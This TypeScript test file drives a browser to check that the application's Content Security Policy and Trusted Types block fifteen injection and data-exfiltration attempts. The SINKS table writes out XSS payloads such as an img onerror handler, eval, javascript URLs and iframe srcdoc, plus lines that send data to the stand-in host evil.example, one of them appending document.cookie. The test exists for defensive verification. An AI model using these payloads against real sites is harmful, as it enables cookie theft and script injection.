import assert from 'node:assert/strict';
import { setTimeout as sleep } from 'node:timers/promises';
import { OTHER_PAGE } from '../context/drill-context';
import { test, type Drill } from '../drill';

/** Ways of turning text into code or sending data away, one line each; those that run set `window.injectedRan`. */
const SINKS: Readonly<Record<string, string>> = {
  'an attribute in HTML': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.injectedRan=1">')`,
  'an inline script': `{ const s = document.createElement('script'); s.textContent = 'window.injectedRan=1'; document.head.append(s); }`,
  'a script of another origin': `{ const s = document.createElement('script'); s.src = 'http://evil.example/x.js'; document.head.append(s); }`,
  'a script of this origin without its hash': `{ const s = document.createElement('script'); s.src = '/robots.txt?x.js'; document.head.append(s); }`,
  'an API response as a script': `{ const s = document.createElement('script'); s.src = '/api/visitor/game/list'; document.head.append(s); }`,
  'a data URL as a script': `{ const s = document.createElement('script'); s.src = 'data:text/javascript,window.injectedRan=1'; document.head.append(s); }`,
  eval: `try { (0, eval)('window.injectedRan=1'); } catch {}`,
  'new Function': `try { new Function('window.injectedRan=1')(); } catch {}`,
  'a timer with text': `try { setTimeout('window.injectedRan=1', 0); } catch {}`,
  'a javascript URL': `{ const a = document.createElement('a'); a.href = 'javascript:window.injectedRan=1'; document.body.append(a); a.click(); }`,
  'a frame': `{ const f = document.createElement('iframe'); f.srcdoc = '<script>parent.injectedRan=1</' + 'script>'; document.body.append(f); }`,
  'a base URL': `{ const b = document.createElement('base'); b.href = 'http://evil.example/'; document.head.append(b); }`,
  'a form to another origin': `{ const f = document.createElement('form'); f.action = 'http://evil.example/'; f.target = '_self'; document.body.append(f); f.submit(); }`,
  'data sent to another origin': `fetch('http://evil.example/?' + document.cookie).catch(() => undefined)`,
  'an image of another origin': `{ new Image().src = 'http://evil.example/x.png'; }`,
};

/** Sinks that take trusted types: HTML, content and addresses of scripts, eval, timers, frames. */
const TYPED_SINKS = 9;

/** Runs in the page before its scripts: records violations of the policy. */
function recordViolations(): void {
  const seen: string[] = [];
  Reflect.set(window, 'violations', seen);
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    seen.push(effectiveDirective);
  });
}

const SINK_COUNT = Object.keys(SINKS).length;

export const securityPolicyDrills: readonly Drill[] = [
  test(`[43] ${SINK_COUNT} ways of injecting code and sending data away: none has an effect, the application keeps working`, async (context) => {
    const external: string[] = [];
    const visit = await context.visit({
      beforeScripts: recordViolations,
      intercept(request) {
        const url = request.url();
        if (new URL(url).hostname !== '127.0.0.1' && url.startsWith('http')) external.push(url);
        return null;
      },
    });
    const { page } = visit;
    await visit.goto(OTHER_PAGE);
    const devTools = await page.createCDPSession();
    for (const [name, code] of Object.entries(SINKS)) {
      // In an event handler, as code of the page would run: automation is exempt from the policy otherwise.
      await devTools.send('Runtime.evaluate', {
        expression: `document.addEventListener('drill', () => { ${code} }, { once: true }); document.dispatchEvent(new Event('drill'))`,
        allowUnsafeEvalBlockedByCSP: false,
      });
      await sleep(60);
      assert.ok(!(await page.evaluate(() => 'injectedRan' in window)), `${name} has run`);
    }
    assert.deepEqual(external, [], 'requests to other origins');
    const violations = await page.evaluate(() => {
      const seen: unknown = Reflect.get(window, 'violations');
      return Array.isArray(seen) ? seen.map(String) : [];
    });
    assert.ok(violations.length >= SINK_COUNT - 2, `only ${violations.length} violations`);
    const typed = violations.filter((each) => each === 'require-trusted-types-for').length;
    assert.ok(typed >= TYPED_SINKS, `only ${typed} of them by Trusted Types`);
    visit.expectDocuments(1);
    await visit.follow('/game-library');
    await visit.waitForLibrary(5_000);
    return `${violations.length} violations refused by the policy, ${typed} of them by Trusted Types`;
  }),
];
